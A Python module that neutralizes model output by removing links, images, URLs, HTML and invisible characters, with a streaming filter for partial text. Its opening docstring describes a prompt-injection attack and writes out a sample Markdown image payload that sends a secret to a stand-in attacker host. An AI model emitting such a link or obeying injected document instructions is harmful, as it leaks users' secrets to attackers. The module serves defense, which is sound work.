"""Model output made inert: no links, images, HTML or invisible characters reach a reader.

A document can tell the model to write ``![x](http://evil.example/?q=<secret>)``; a
browser that renders the answer as Markdown would then fetch that address by itself and
hand the secret to whoever runs it. Prompts ask the model not to, but a prompt is no
guarantee, so every piece of model text shown to a person goes through ``neutralize``
(or, while it streams, ``MarkupFilter``): images and links keep only their visible text,
bare and angle-bracket URLs are replaced by ``(link removed)``, HTML tags and comments are
dropped, and format characters (zero-width spaces, bidirectional overrides) that hide or
reorder text are removed. Plain prose, citation marks like ``[2]`` and e-mail addresses
pass unchanged.
"""

from __future__ import annotations

import re
import unicodedata

LINK_REMOVED = "(link removed)"

_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9:-]*(?:\s[^<>]*)?/?>")
# ![alt](target) and [text](target): keep the visible text only.
_IMAGE = re.compile(r"!\[([^\[\]]*)\]\([^)]*\)?")
_LINK = re.compile(r"\[([^\[\]]*)\]\([^)]*\)?")
# "[ref]: target" defines what "[text][ref]" links to; "[ref] :" defines nothing, so
# reference links and images are left without a target.
_DEFINITION = re.compile(r"^([ \t]*\[[^\]]+\]):", re.MULTILINE)
_URL = re.compile(
    r"(?:\b[A-Za-z][A-Za-z0-9+.-]{1,20}://|\bwww\.|\b(?:javascript|data|file|mailto):(?=\S))\S*",
    re.IGNORECASE,
)
# Anything still shaped like a link target after the rules above ("] (" is not a link).
_LINK_OPENER = re.compile(r"\]\(")
_HOLD_LIMIT = 400


def neutralize(text: str) -> str:
    """``text`` with links, images, HTML and invisible format characters made inert.

    Args:
        text: Model output, whole or a stretch cut at a ``MarkupFilter`` boundary.

    Returns:
        The text a reader may see, rendered as Markdown or printed as it is.
    """
    text = "".join(c for c in text if unicodedata.category(c) != "Cf")
    text = _COMMENT.sub("", text)
    text = _TAG.sub("", text)
    text = _DEFINITION.sub(r"\1 :", text)
    text = _IMAGE.sub(lambda m: m.group(1), text)
    text = _LINK.sub(lambda m: _visible(m.group(1)), text)
    text = _URL.sub(LINK_REMOVED, text)
    return _LINK_OPENER.sub("] (", text)


def _visible(label: str) -> str:
    # "[2]" followed by "(...)" is a citation before a parenthesis only when a space
    # separates them, so any "[x](...)" here is a link: keep the label, bracketed when it
    # is a citation number so the reader still sees which source it names.
    return f"[{label}]" if label.strip().isdigit() else label


class MarkupFilter:
    """``neutralize`` for a stream: text is released in stretches that hold no open markup.

    A stretch ends after whitespace that follows every ``[``, ``(`` and ``<`` it opened
    with its closer, so a link, an image, a tag or a URL never straddles two stretches and
    each stretch is neutralized on its own. What is held back waits for more tokens (at
    most ~400 characters, then it is released anyway) or for ``close``.
    """

    def __init__(self) -> None:
        self._held = ""

    def feed(self, piece: str) -> str:
        """Take the next piece of model text; return what may be shown now (maybe "")."""
        self._held += piece
        cut = _safe_cut(self._held)
        ready, self._held = self._held[:cut], self._held[cut:]
        return neutralize(ready) if ready else ""

    def close(self) -> str:
        """The rest of the text, neutralized, at the end of the stream."""
        rest, self._held = self._held, ""
        return neutralize(rest) if rest else ""


def _safe_cut(text: str) -> int:
    """Where ``text`` can be split without cutting through markup (0: not yet)."""
    end = max(text.rfind(" "), text.rfind("\n"), text.rfind("\t")) + 1
    if len(text) - end > _HOLD_LIMIT:
        return len(text)  # one endless "word": no markup survives neutralize in it either
    opened: dict[str, int] = {}
    for index, char in enumerate(text[:end]):
        if char in "[(<":
            opened.setdefault(char, index)
        elif char in "])>":
            opened.pop({"]": "[", ")": "(", ">": "<"}[char], None)
    earliest = min(opened.values(), default=end)
    if earliest == end or end - earliest > _HOLD_LIMIT:
        return end  # nothing open, or an opener never closed ("(see above"): release
    # Back to the whitespace before the opener's word: "![x](" stays in one stretch.
    return max(text.rfind(" ", 0, earliest), text.rfind("\n", 0, earliest)) + 1
